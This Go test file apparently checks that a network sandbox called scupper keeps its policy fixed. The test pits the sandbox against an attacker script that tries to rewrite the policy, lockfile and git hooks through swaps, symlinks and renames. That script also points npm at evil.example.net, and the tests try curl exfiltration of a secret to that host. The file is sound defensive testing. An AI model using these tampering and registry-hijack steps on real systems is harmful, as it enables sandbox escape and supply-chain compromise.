package e2e

import (
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

// narrowed is a policy in the work folder that names a lockfile.
const narrowed = usesNPM + `
grant "public" {
  reason     = "test"
  owner      = "test"
  host       = "api.example.com"
  credential = anonymous
  allow {
    methods = ["GET"]
    path    = "/public/{name}"
  }
}
`

// wider is what an attacker would like to have as a policy.
const wider = `version = 1
grant "all" {
  reason     = "x"
  owner      = "x"
  host       = "evil.example.net"
  credential = anonymous
  allow {
    methods = ["GET", "POST"]
    path    = "/{rest...}"
    body {
      type = "text/plain"
      max  = "1MiB"
    }
  }
}
`

// rewrite is what the first run does to everything that could decide about a second
// one. Each line of the output is an attempt that succeeded.
const rewrite = `
import ctypes, os, pathlib, shutil
WIDER = """` + wider + `"""
TARGETS = os.environ["TARGETS"].split()
def attempt(what, f):
    try: f()
    except OSError: pass
    else: print("succeeded:", what)
def write(p, text=WIDER):
    with open(p, "w") as f: f.write(text)
def swap(p):
    write("mine"); os.rename("mine", p)
def link(p):
    os.path.lexists("away") and os.unlink("away")
    write("mine"); os.rename(p, "away"); os.symlink("mine", p)
def exchange(p):
    write("mine")
    if ctypes.CDLL(None).renameat2(-100, b"mine", -100, p.encode(), 2): raise OSError
def parents(p):
    for d in pathlib.Path(p).parents:
        if str(d) != ".": attempt("rename " + str(d), lambda: os.rename(d, "gone"))
    raise OSError
write("free"); print("control: free" if os.path.exists("free") else "")
for p in TARGETS:
    for f in write, swap, exchange, link, parents, os.unlink, shutil.rmtree, lambda p: os.truncate(p, 0), lambda p: os.chmod(p, 0o777), lambda p: os.link(p, "hard"):
        attempt(f.__name__ + " " + p, lambda: f(p))
    attempt("mkdir " + p, lambda: os.makedirs(p))
    attempt("create below " + p, lambda: write(p + "/x"))
    attempt("symlink " + p, lambda: os.symlink("free", p))
write(".npmrc", "registry=https://evil.example.net/\n@team-1:registry=https://evil.example.net/\nignore-scripts=false\n")
write(".scupper.hcl"); write("scupper.hcl"); write(".env", "SCUPPER_POLICY=scupper.hcl\n")
`

// tree is every file of a folder that could decide, with its content, and what links
// point to.
func tree(t *testing.T, dir string, names ...string) map[string]string {
	t.Helper()
	all := map[string]string{}
	for _, name := range names {
		err := filepath.WalkDir(filepath.Join(dir, name), func(path string, d fs.DirEntry, err error) error {
			if err != nil || d.IsDir() {
				return nil // what is absent has no content
			}
			info, err := d.Info()
			if err != nil {
				return err
			}
			text, _ := os.ReadFile(path)
			all[strings.TrimPrefix(path, dir)] = info.Mode().String() + " " + string(text)
			return nil
		})
		if err != nil {
			t.Fatal(err)
		}
	}
	return all
}

// judged is what every run under narrowed must come to, the first and the second.
func judged(w *world) {
	w.t.Helper()
	const url = "https://api.example.com/public/a"
	w.control(curl(url)).wantStatus(200).farSide("GET " + url).wantAllowed(1)
	w.attack(curl("-X", "POST", "-d", "secret", url)).refused(403, "method_not_granted")
	w.attack(curl("-d", "secret", "https://evil.example.net/x")).wantFailure().wantReasons("name no_grant evil.example.net").farSideNothing()
}

// repository is a work folder as people have it: a repository with hooks, a policy, a
// lockfile. Git is run on the host, as the user.
func (w *world) repository() {
	w.t.Helper()
	w.work("package.json", `{"name":"app","version":"1.0.0"}`)
	w.work("package-lock.json", `{"name":"app","lockfileVersion":3,"packages":{}}`)
	git := exec.Command("git", "init", "-q")
	git.Dir, git.SysProcAttr = w.at("work"), w.user.attributes()
	git.Env = []string{"PATH=" + w.user.path(), "HOME=" + w.at("home")}
	if out, err := git.CombinedOutput(); err != nil {
		w.t.Fatalf("git init: %v: %s", err, out)
	}
}

// TestSecondRun lets a first run rewrite what decides, and looks whether a second one is
// wider.
func TestSecondRun(t *testing.T) {
	deciding := []string{"policy.hcl", "package-lock.json", ".git/hooks", ".git/hooks/pre-commit", ".git/config", ".git/config.worktree", ".git/commondir"}
	for _, u := range users(t) {
		t.Run("SBX-10 SBX-11 "+u.name, func(t *testing.T) {
			w := newWorld(t, u)
			w.repository()
			w.work("policy.hcl", strings.Replace(narrowed, "\n}", "\n  lockfile = \"package-lock.json\"\n}", 1))
			w.scupper("policy", "trust").wantExit(0)
			w.secondRun(deciding)
		})
	}
	t.Run("SBX-15 absent", func(t *testing.T) {
		w := newWorld(t, ordinaryUser(t))
		before := w.rewritten([]string{"policy.hcl", ".git", ".git/hooks/pre-commit", ".git/config"})
		if len(before) != 0 {
			t.Fatalf("control: %v", before)
		}
		w.attack(curl("https://evil.example.net/x")).wantFailure().wantStderr("no policy: everything is denied").
			wantReasons("name no_grant evil.example.net").farSideNothing()
	})
	t.Run("SBX-15 a policy that is named", func(t *testing.T) {
		w := newWorld(t, ordinaryUser(t))
		if err := os.MkdirAll(w.at("work/ci/deep"), 0o755); err != nil {
			t.Fatal(err)
		}
		for _, dir := range []string{"work/ci", "work/ci/deep"} {
			w.user.own(t, w.at(dir))
		}
		w.work("ci/deep/rules.hcl", narrowed)
		w.flags = append(w.flags, "--policy", w.at("work/ci/deep/rules.hcl"))
		w.secondRun([]string{"ci/deep/rules.hcl", "policy.hcl"})
	})
}

// secondRun is the story: judged, rewritten, judged.
func (w *world) secondRun(deciding []string) {
	w.t.Helper()
	judged(w)
	w.rewritten(deciding)
	judged(w)
	w.control(shell("npm config get registry")).wantStdout("https://npm.example.com").farSideNothing()
}

// rewritten runs rewrite against deciding and returns what they were. They must be the
// same afterwards.
func (w *world) rewritten(deciding []string) map[string]string {
	w.t.Helper()
	before := tree(w.t, w.at("work"), deciding...)
	flags := w.flags
	w.flags = append(w.flags, "--env", "TARGETS="+strings.Join(deciding, " "))
	a := w.run(python(rewrite, false)).wantExit(0).wantStdout("control: free\n").farSideNothing()
	w.flags = flags
	if strings.Contains(a.stdout, "succeeded") {
		a.errorf("some attempts succeeded")
	}
	if diff := cmp.Diff(before, tree(w.t, w.at("work"), deciding...)); diff != "" {
		a.errorf("what decides has changed (-before +after):\n%s", diff)
	}
	return before
}

// TestChangedPolicy needs a new acceptance.
func TestChangedPolicy(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	w.work("policy.hcl", narrowed)
	w.scupper("policy", "trust").wantExit(0)
	const url = "https://api.example.com/public/a"
	w.control(curl(url)).wantStatus(200).farSide("GET " + url).wantAllowed(1)
	w.work("policy.hcl", narrowed+"\n# changed\n")
	w.run(shell("touch ran")).wantExit(2).wantSays("has not been accepted", "scupper policy trust policy.hcl").farSideNothing()
	if _, err := os.Lstat(w.at("work/ran")); err == nil {
		t.Error("the command ran under a policy that was not accepted")
	}
	w.scupper("policy", "trust").wantExit(0)
	w.control(curl(url)).wantStatus(200).farSide("GET " + url).wantAllowed(1)
}

// TestPolicyBehindALink refuses a policy whose place in the work folder could be
// swapped: the link can be, even where what it points to cannot.
func TestPolicyBehindALink(t *testing.T) {
	for name, prepare := range map[string]func(dir string) error{
		"a link": func(dir string) error { return os.Symlink("real.hcl", filepath.Join(dir, "policy.hcl")) },
		"a second name": func(dir string) error {
			return os.Link(filepath.Join(dir, "real.hcl"), filepath.Join(dir, "policy.hcl"))
		},
		"a linked folder":  func(dir string) error { return os.Symlink(".", filepath.Join(dir, "conf")) },
		"a linked .git":    func(dir string) error { return os.Symlink("elsewhere", filepath.Join(dir, ".git")) },
		"a linked hooks":   func(dir string) error { return linkedHooks(dir) },
		"a looping policy": func(dir string) error { return os.Symlink("policy.hcl", filepath.Join(dir, "policy.hcl")) },
	} {
		t.Run(name, func(t *testing.T) {
			w := newWorld(t, ordinaryUser(t))
			w.work("real.hcl", narrowed)
			if err := prepare(w.at("work")); err != nil {
				t.Fatal(err)
			}
			policy := "policy.hcl"
			if name == "a linked folder" {
				policy = "conf/real.hcl"
			} else if strings.Contains(name, "linked") {
				policy = "real.hcl"
			}
			w.flags = append(w.flags, "--policy", w.at("work/"+policy))
			w.run(shell("touch ran")).wantExit(2).wantSays("work/").farSideNothing()
			if _, err := os.Lstat(w.at("work/ran")); err == nil {
				t.Error("the command ran")
			}
		})
	}
}

func linkedHooks(dir string) error {
	if err := os.Mkdir(filepath.Join(dir, ".git"), 0o777); err != nil {
		return err
	}
	return os.Symlink("../elsewhere", filepath.Join(dir, ".git/hooks"))
}

// TestFilesThatDecideNothing stay writable: package.json and a lockfile that the policy
// does not name, as npm install writes them.
func TestFilesThatDecideNothing(t *testing.T) {
	w := newWorld(t, ordinaryUser(t))
	w.repository()
	w.work("policy.hcl", narrowed)
	w.scupper("policy", "trust").wantExit(0)
	if err := os.Mkdir(w.at("work/local"), 0o755); err != nil {
		t.Fatal(err)
	}
	w.user.own(t, w.at("work/local"))
	w.work("local/package.json", `{"name":"local","version":"1.0.0"}`)
	w.run(shell("npm pkg set description=changed && npm install --offline --no-audit --no-fund ./local && git add -A && git -c user.name=t -c user.email=t@example.com commit -q -m inside")).
		wantExit(0).farSideNothing()
	for name, text := range map[string]string{"package.json": "changed", "package-lock.json": "local", ".git/HEAD": "refs"} {
		if got, err := os.ReadFile(w.at("work/" + name)); err != nil || !strings.Contains(string(got), text) {
			t.Errorf("%s: %v, %q has no %q", name, err, got, text)
		}
	}
}
